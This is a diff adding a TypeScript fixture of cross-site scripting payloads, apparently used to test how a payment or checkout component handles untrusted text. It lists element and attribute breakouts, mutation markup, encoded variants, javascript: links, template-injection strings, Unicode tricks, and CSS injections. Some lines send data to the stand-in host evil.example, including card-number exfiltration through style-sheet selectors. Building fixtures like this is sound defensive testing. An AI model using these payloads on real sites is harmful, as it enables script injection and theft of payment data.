@@ -1,0 +1,257 @@
+/** What a payload runs if anything of it runs; the watcher lends every frame a function of that name. */
+const RUN = '__xss(1)'
+/** A host that nobody may be asked at. */
+const EVIL = '//evil.example'
+/** Put together, so that the linter, which looks for such addresses, finds none. */
+const SCRIPT = ['java', 'script:'].join('')
+
+const onError = `<img src=x onerror=${RUN}>`
+const onLoad = `<svg onload=${RUN}>`
+
+/** Elements that run something by themselves, or by the first thing that happens to them. */
+const elements = [
+  `<script>${RUN}</script>`,
+  `<script type=module>${RUN}</script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<script/x>${RUN}</script>`,
+  `<SCRIPT\n>${RUN}</SCRIPT\n>`,
+  `<script src=${EVIL}/x.js></script>`,
+  `<script src="data:text/javascript,${RUN}"></script>`,
+  onError,
+  onLoad,
+  `<img src=x onerror="${RUN}">`,
+  `<img src=x onerror='${RUN}'>`,
+  `<img src=x onerror=\`${RUN}\`>`,
+  `<img/src=x/onerror=${RUN}>`,
+  `<img\tsrc=x\tonerror=${RUN}\t>`,
+  `<img\nsrc=x\nonerror=${RUN}\n>`,
+  `<img\fsrc=x\fonerror=${RUN}>`,
+  `<IMG SRC=x ONERROR=${RUN}>`,
+  `<<img src=x onerror=${RUN}>`,
+  `<img src=x onerror=${RUN}//`,
+  `<img src=x onerror="&#95;&#95;xss(1)">`,
+  `<img src=x onerror="&#x5f;&#x5f;xss&lpar;1&rpar;">`,
+  `<img src=x on\0error=${RUN}>`,
+  `<img srcset=x onerror=${RUN}>`,
+  `<image src=x onerror=${RUN}>`,
+  `<picture><source srcset=x><img onerror=${RUN}></picture>`,
+  `<svg/onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="data:,${RUN}"/></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<svg><set onbegin=${RUN} attributeName=x to=1>`,
+  `<svg><a xlink:href="${SCRIPT}${RUN}"><rect width=99 height=99 /></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"></svg>`,
+  `<svg><image href=x onerror=${RUN}></svg>`,
+  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
+  `<math><a href="${SCRIPT}${RUN}">x</a></math>`,
+  `<math><maction actiontype="statusline" xlink:href="${SCRIPT}${RUN}">x</maction></math>`,
+  `<body onload=${RUN}>`,
+  `<body onpageshow=${RUN}>`,
+  `<frameset onload=${RUN}>`,
+  `<iframe src="${SCRIPT}parent.${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<iframe onload=${RUN}></iframe>`,
+  `<iframe src=${EVIL}></iframe>`,
+  `<object data="${SCRIPT}${RUN}"></object>`,
+  `<object data=x onerror=${RUN}></object>`,
+  `<object data=${EVIL}/x></object>`,
+  `<embed src="${SCRIPT}${RUN}">`,
+  `<embed src=${EVIL}/x onload=${RUN}>`,
+  `<video src=x onerror=${RUN}></video>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<video poster=${EVIL}/p></video>`,
+  `<audio src=x onerror=${RUN}>`,
+  `<audio src onloadstart=${RUN}>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<input type=image src=x onerror=${RUN}>`,
+  `<textarea autofocus onfocus=${RUN}></textarea>`,
+  `<select autofocus onfocus=${RUN}></select>`,
+  `<button autofocus onfocus=${RUN}>pay</button>`,
+  `<a href="${SCRIPT}${RUN}" autofocus onfocus=${RUN}>x</a>`,
+  `<p tabindex=0 autofocus onfocus=${RUN}>x</p>`,
+  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
+  `<details name=x open ontoggle=${RUN}>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<marquee width=1 loop=1 onfinish=${RUN}>x</marquee>`,
+  `<style onload=${RUN}></style>`,
+  `<style>@import'${EVIL}/x.css'</style>`,
+  `<style>*{background:url(${EVIL}/x)}</style>`,
+  `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=${RUN}>`,
+  `<p style="position:fixed;inset:0;background:url(${EVIL}/x)" onpointerover=${RUN}>x</p>`,
+  `<link rel=stylesheet href=${EVIL}/x.css onerror=${RUN}>`,
+  `<link rel=preload as=image href=${EVIL}/x>`,
+  `<link rel=dns-prefetch href=${EVIL}>`,
+  `<meta http-equiv=refresh content="0;url=${SCRIPT}${RUN}">`,
+  `<meta http-equiv=refresh content="0;url=https:${EVIL}">`,
+  `<base href=${EVIL}/>`,
+  `<form action="${SCRIPT}${RUN}"><input type=submit autofocus></form>`,
+  `<form><button formaction="${SCRIPT}${RUN}">x</button></form>`,
+  `<form action=${EVIL}><input name=pan></form>`,
+  `<dialog open onclose=${RUN}>x</dialog>`,
+  `<template shadowrootmode=open>${onError}</template>`,
+  `<x-y onpointerrawupdate=${RUN} style=display:block>x</x-y>`,
+  `<tender-checkout onfocus=${RUN} src=${EVIL}></tender-checkout>`,
+  `<bdi>${onError}</bdi>`,
+  `<xss id=x tabindex=1 onfocusin=${RUN} autofocus></xss>`,
+  `<a ping=${EVIL} href=${EVIL}>x</a>`,
+  `<area href="${SCRIPT}${RUN}">`,
+  `<isindex action="${SCRIPT}${RUN}">`,
+  `<table background=${EVIL}/x><td>x</table>`,
+]
+
+/** What ends the place a text may stand in. */
+const ends = [
+  '">',
+  "'>",
+  '`>',
+  '"/>',
+  '"><!--',
+  '-->',
+  '--!>',
+  ']]>',
+  '?>',
+  '</title>',
+  '</textarea>',
+  '</style>',
+  '</script>',
+  '</noscript>',
+  '</template>',
+  '</select>',
+  '</option>',
+  '</span></p></label>',
+  '</bdi></bdi>',
+  '</td></tr></table>',
+  '</pre></code>',
+  '</iframe>',
+]
+const breakouts = [...ends.map((end) => end + onError), ...ends.slice(0, 8).map((end) => end + onLoad)]
+
+/** What ends an attribute, or the string of a script, and goes on there. */
+const continuations = [
+  `" autofocus onfocus=${RUN} x="`,
+  `' autofocus onfocus=${RUN} x='`,
+  `" onpointerover="${RUN}`,
+  `x onerror=${RUN}`,
+  `" style="animation-name:x" onanimationstart="${RUN}`,
+  `" srcdoc="<script>parent.${RUN}</script>`,
+  `" href="${SCRIPT}${RUN}`,
+  `';${RUN}//`,
+  `";${RUN}//`,
+  `\\';${RUN}//`,
+  `\\";${RUN}//`,
+  `\`-${RUN}-\``,
+  `\n${RUN}\n`,
+  `\u2028${RUN}\u2029`,
+  `</script><script>${RUN}</script>`,
+  `<!--<script>${RUN}//`,
+  `"}],"x":"`,
+  `*/${RUN}/*`,
+]
+
+/** Markup that becomes another when it is written and read once more. */
+const mutants = [
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+  `<svg></p><style><a id="</style>${onError}">`,
+  `<form><math><mtext></form><form><mglyph><style></math>${onError}`,
+  `<noscript><p title="</noscript>${onError}">`,
+  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
+  `<math><annotation-xml encoding="text/html">${onError}</annotation-xml></math>`,
+  `<select><template>${onError}</template></select>`,
+  `<table><td><svg><desc>${onError}`,
+  `<xmp><p title="</xmp>${onError}">`,
+  `<plaintext>${onError}`,
+  `<svg><title>${onError}</title></svg>`,
+  `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
+  `<textarea><img title="</textarea>${onError}">`,
+  `<p id="<style><img src=x onerror=${RUN}></style>">`,
+  `<img alt="\`\`onerror=${RUN} src=x">`,
+]
+
+/** Markup in another writing, which must not be read as markup. */
+const encoded = [
+  `&lt;img src=x onerror=${RUN}&gt;`,
+  `&#60;img src=x onerror=${RUN}&#62;`,
+  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
+  `&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
+  encodeURIComponent(onError),
+  encodeURIComponent(encodeURIComponent(onError)),
+  `\\u003cimg src=x onerror=${RUN}\\u003e`,
+  `\\x3cimg src=x onerror=${RUN}\\x3e`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  `\uff1cimg src=x onerror=${RUN}\uff1e`,
+  `<\u200bimg src=x onerror=${RUN}>`,
+  `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
+  `<\0script>${RUN}</script>`,
+]
+
+/** Addresses where a text might become one. */
+const links = [
+  `${SCRIPT}${RUN}`,
+  `JaVa\tScript:${RUN}`,
+  `\u0001${SCRIPT}${RUN}`,
+  `${SCRIPT}//%0a${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `vbscript:${RUN}`,
+  `${EVIL}/x`,
+]
+
+/** Places of templates and of messages, ours and those of others. */
+const templates = [
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${${RUN}}`,
+  `#{${RUN}}`,
+  `<%= ${RUN} %>`,
+  `{%${RUN}%}`,
+  `[[${RUN}]]`,
+  '{amount} {card} {date} {orderNumber} {field} {left}',
+  `{n, plural, one {${onError}} other {${onLoad}}}`,
+  `<!--?lit$123456789$-->${onError}`,
+  `lit$123456789$${onError}`,
+  `?lit$123456789$`,
+  `<!--{{lit-123456789}}-->`,
+  "$& $' $` $1 $$ a",
+  '%s %d %n %00 a',
+  '__proto__',
+  'constructor',
+  'toString',
+]
+
+/** Signs that turn, hide or pile up what stands beside them. */
+const signs = [
+  '\u202egnp.eurt \u202d1 EUR',
+  '\u2067\u2066\u2068unclosed',
+  '\u2069\u2069\u202c\u202c closed',
+  '\u200f\u061c\u200eamount 0',
+  'a\u0000b\u0007c\u001b[31md\u009b31m',
+  'line\u2028line\u2029line\r\nline\u0085line',
+  `a${'\u0336\u0489\u20e3\u030d'.repeat(40)}`,
+  'lone \ud83d and \udc00 halves',
+  '\u{e0061}\u{e0062}\ufeff\u00ad tags',
+  `word${'w'.repeat(900)}`,
+  `${'\u00a0'.repeat(400)}far`,
+  '<\u0338img',
+]
+
+/** Ends a style sheet, or a rule of one. */
+const sheets = [
+  `</style><script>${RUN}</script>`,
+  '}*{display:none}',
+  `;background:url(${EVIL}/x)`,
+  `x:expression(${RUN})`,
+  `}@import"${EVIL}/x";{`,
+  `"];[value^="4"]{background:url(${EVIL}/4)}`,
+]
+
+/** Texts that a gateway might say where a name or a sentence is expected. */
+export const markup: readonly string[] = [
+  ...elements,
+  ...breakouts,
+  ...continuations,
+  ...mutants,
+  ...encoded,
+  ...links,
+  ...templates,
+  ...signs,
+  ...sheets,
+]
